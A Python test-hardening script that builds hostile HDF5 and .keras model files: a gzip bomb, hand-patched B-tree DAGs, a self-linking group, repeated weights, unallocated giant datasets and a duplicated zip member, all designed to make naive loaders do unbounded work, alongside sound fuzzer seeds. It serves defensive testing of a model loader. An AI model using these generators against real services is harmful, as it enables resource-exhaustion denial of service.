"""Hostile HDF5 and .keras files for test/hardening (issue 18): small files whose *structure* makes a naive reader
do unbounded work. Written with h5py, then (for the B-tree attacks) patched by hand: HDF5 v1 B-tree nodes are
appended to the file and the group's / dataset's pointer to its tree is redirected to them.

    python make_h5_attacks.py OUT_DIR [NAME ...]

Every file is a legacy Keras .h5 (root attribute model_config, model_weights/<layer>/weight_names) or a .keras
archive around a model.weights.h5, so the loader gets past the config and reaches the hostile part.
"""
import io
import json
import os
import struct
import sys
import zipfile
import zlib

import h5py
import numpy as np

UNDEF = 0xFFFFFFFFFFFFFFFF


def lstm_config(units, features, name="lstm"):
    return {
        "class_name": "Sequential",
        "config": {
            "name": "attack",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_shape": [None, None, features], "name": "input"}},
                {"class_name": "LSTM", "config": {"name": name, "units": units, "return_sequences": False,
                                                  "activation": "tanh", "recurrent_activation": "sigmoid",
                                                  "use_bias": True}},
            ],
        },
    }


def legacy(path, units, features, write_weights):
    """A legacy model.save('x.h5') layout; write_weights(group) makes the datasets and returns weight_names."""
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(lstm_config(units, features))
        f.attrs["keras_version"] = "3.15.1"
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = np.array(["lstm"], dtype=object)
        g = mw.create_group("lstm")
        names = write_weights(g)
        g.attrs["weight_names"] = np.array(names, dtype=object)


def zeros_chunk(shape, dtype="<f4"):
    return zlib.compress(np.zeros(shape, dtype=dtype).tobytes(), 9)


def gzip_bomb(path):
    """2^28 float32 values (1 GiB declared, within every per-array limit) in 1 MiB of zlib chunks of zeros."""
    units, features = 4096, 16384

    def weights(g):
        chunk = (1024, 1024)
        ds = g.create_dataset("kernel", shape=(features, 4 * units), dtype="<f4", chunks=chunk, compression="gzip")
        data = zeros_chunk(chunk)
        for r in range(0, features, chunk[0]):
            for c in range(0, 4 * units, chunk[1]):
                ds.id.write_direct_chunk((r, c), data)
        g.create_dataset("recurrent_kernel", data=np.zeros((1, 1), "<f4"))
        g.create_dataset("bias", data=np.zeros((1,), "<f4"))
        return ["kernel", "recurrent_kernel", "bias"]

    legacy(path, units, features, weights)


def repeated_weight(path):
    """weight_names lists one 16 M-element dataset (zlib zeros, ~70 KB) 200 times."""
    def weights(g):
        chunk = (1024, 1024)
        ds = g.create_dataset("big", shape=(4096, 4096), dtype="<f4", chunks=chunk, compression="gzip")
        data = zeros_chunk(chunk)
        for r in range(0, 4096, 1024):
            for c in range(0, 4096, 1024):
                ds.id.write_direct_chunk((r, c), data)
        return ["big"] * 200

    legacy(path, 1024, 4096, weights)


def no_storage(path):
    """A kernel declared 16384 × 16384 float32 whose storage was never allocated (h5py's late allocation)."""
    def weights(g):
        g.create_dataset("kernel", shape=(16384, 16384), dtype="<f4")
        g.create_dataset("recurrent_kernel", data=np.zeros((4096, 16384), "<f4")[:1, :1])
        g.create_dataset("bias", data=np.zeros((1,), "<f4"))
        return ["kernel", "recurrent_kernel", "bias"]

    legacy(path, 4096, 16384, weights)


# ---- hand-made v1 B-trees -------------------------------------------------------------------------------------

def tree_node(node_type, level, keys, children):
    """A v1 B-tree node: TREE, type, level, entries used, siblings (undefined), then key child key child … key."""
    out = bytearray(b"TREE" + struct.pack("<BBHQQ", node_type, level, len(children), UNDEF, UNDEF))
    for k, c in zip(keys, children):
        out += k + struct.pack("<Q", c)
    out += keys[len(children)]
    return bytes(out)


def append(buf, data):
    """Appends 8-byte aligned; returns the address."""
    while len(buf) % 8:
        buf.append(0)
    at = len(buf)
    buf += data
    return at


def fix_eof(buf):
    """Superblock v0: end-of-file address at offset 8+16+8+8 = 40 (base, free-space, EOF, driver)."""
    assert buf[8] == 0, "superblock version 0 expected"
    struct.pack_into("<Q", buf, 40, len(buf))


def replace_all(buf, old, new):
    n = 0
    i = buf.find(old)
    while i >= 0:
        buf[i:i + len(old)] = new
        n += 1
        i = buf.find(old, i + len(new))
    return n


def find_tree_addresses(buf, node_type):
    out = []
    i = buf.find(b"TREE")
    while i >= 0:
        if buf[i + 4] == node_type:
            out.append(i)
        i = buf.find(b"TREE", i + 4)
    return out


def chunk_btree_dag(path, fanout=64, depth=4):
    """A chunked dataset whose chunk B-tree is a DAG: each level's node lists the same child `fanout` times, so a
    reader that walks it without remembering addresses reads fanout^depth leaves (a few hundred bytes of nodes)."""
    def weights(g):
        ds = g.create_dataset("kernel", shape=(64, 64), dtype="<f4", chunks=(8, 8))
        ds[...] = 0
        g.create_dataset("recurrent_kernel", data=np.zeros((16, 64), "<f4"))
        g.create_dataset("bias", data=np.zeros((64,), "<f4"))
        return ["kernel", "recurrent_kernel", "bias"]

    legacy(path, 16, 64, weights)
    buf = bytearray(open(path, "rb").read())
    roots = find_tree_addresses(buf, 1)
    assert roots, "no chunk B-tree"
    old_root = roots[0]
    # One chunk of 8x8 float32 zeros, referenced by every leaf entry.
    chunk_addr = append(buf, bytes(8 * 8 * 4))
    ndims = 3  # 2 data dims + the element-size dimension

    def key(r=0, c=0):
        return struct.pack("<II", 8 * 8 * 4, 0) + struct.pack("<" + "Q" * ndims, r, c, 0)

    keys = [key((i // 8 % 8) * 8, (i % 8) * 8) for i in range(fanout)] + [key(64, 64)]
    child = append(buf, tree_node(1, 0, keys, [chunk_addr] * fanout))
    for level in range(1, depth + 1):
        child = append(buf, tree_node(1, level, keys, [child] * fanout))
    n = replace_all(buf, struct.pack("<Q", old_root), struct.pack("<Q", child))
    assert n >= 1
    fix_eof(buf)
    open(path, "wb").write(bytes(buf))


def group_btree_dag(path, fanout=64, depth=4):
    """The root group's symbol-table B-tree made a DAG: every level lists the same child `fanout` times, the leaves
    all point at the root's real symbol-table node, so the group still resolves after fanout^depth visits."""
    legacy(path, 4, 3, lambda g: [
        g.create_dataset("kernel", data=np.zeros((3, 16), "<f4")).name.split("/")[-1],
        g.create_dataset("recurrent_kernel", data=np.zeros((4, 16), "<f4")).name.split("/")[-1],
        g.create_dataset("bias", data=np.zeros((16,), "<f4")).name.split("/")[-1],
    ])
    buf = bytearray(open(path, "rb").read())
    # The root group's B-tree address sits in the superblock's root symbol table entry scratch pad (offset 80).
    old_root = struct.unpack_from("<Q", buf, 80)[0]
    assert buf[old_root:old_root + 4] == b"TREE", "root group B-tree expected at the scratch-pad address"
    level0 = struct.unpack_from("<B", buf, old_root + 5)[0]
    assert level0 == 0
    snod = struct.unpack_from("<Q", buf, old_root + 24 + 8)[0]
    assert buf[snod:snod + 4] == b"SNOD"
    keys = [struct.pack("<Q", 0)] * (fanout + 1)
    child = append(buf, tree_node(0, 0, keys, [snod] * fanout))
    for level in range(1, depth + 1):
        child = append(buf, tree_node(0, level, keys, [child] * fanout))
    n = replace_all(buf, struct.pack("<Q", old_root), struct.pack("<Q", child))
    assert n >= 2  # the object header's symbol table message and the superblock's cache
    fix_eof(buf)
    open(path, "wb").write(bytes(buf))


def keras_archive(path, weights_h5):
    config = lstm_config(4, 3)
    for layer in config["config"]["layers"]:
        layer["module"] = "keras.layers"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights_h5)


def hardlink_loop(path, copies=4):
    """A .keras whose layers/lstm/cell group hard-links to itself `copies` times: a walk that follows sub-groups
    without remembering addresses visits copies^depth groups."""
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        cell = f.create_group("layers/lstm/cell")
        v = cell.create_group("vars")
        v["0"] = np.zeros((3, 16), "<f4")
        v["1"] = np.zeros((4, 16), "<f4")
        v["2"] = np.zeros((16,), "<f4")
        for i in range(copies):
            cell[f"loop{i}"] = cell
    keras_archive(path, b.getvalue())


def zip_repeated_members(path):
    """A .keras listing model.weights.h5 twice (a zip may repeat a name; which one counts is ambiguous)."""
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        f.create_group("layers")
    keras_archive(path, b.getvalue())
    with zipfile.ZipFile(path, "a") as z:
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr("model.weights.h5", b.getvalue())


def seed_chunked(path):
    """A sound legacy .h5 whose kernel is 512 gzip chunks (a two-level chunk B-tree): the structural fuzzer's seed."""
    rng = np.random.default_rng(0)

    def weights(g):
        g.create_dataset("kernel", data=rng.normal(size=(16, 32)).astype("<f4"), chunks=(1, 1), compression="gzip", shuffle=True)
        g.create_dataset("recurrent_kernel", data=rng.normal(size=(8, 32)).astype("<f4"), chunks=(2, 4), compression="gzip", fletcher32=True)
        g.create_dataset("bias", data=np.zeros((32,), "<f4"))
        return ["kernel", "recurrent_kernel", "bias"]

    legacy(path, 8, 16, weights)


def seed_keras(path):
    """A sound .keras (Keras 3 layout, one LSTM) for the zip and group fuzzers."""
    rng = np.random.default_rng(1)
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        v = f.create_group("layers/lstm/cell/vars")
        v["0"] = rng.normal(size=(3, 16)).astype("<f4")
        v["1"] = rng.normal(size=(4, 16)).astype("<f4")
        v["2"] = np.zeros((16,), "<f4")
        f.create_group("layers/lstm/vars")
    keras_archive(path, b.getvalue())


ATTACKS = {
    "seed-chunked.h5": seed_chunked,
    "seed.keras": seed_keras,
    "gzip-bomb.h5": gzip_bomb,
    "chunk-btree-dag.h5": chunk_btree_dag,
    "group-btree-dag.h5": group_btree_dag,
    "repeated-weight.h5": repeated_weight,
    "hardlink-loop.keras": hardlink_loop,
    "no-storage.h5": no_storage,
    "zip-repeated.keras": zip_repeated_members,
}

if __name__ == "__main__":
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    for name in sys.argv[2:] or ATTACKS:
        ATTACKS[name](os.path.join(out, name))
        print(name, os.path.getsize(os.path.join(out, name)))
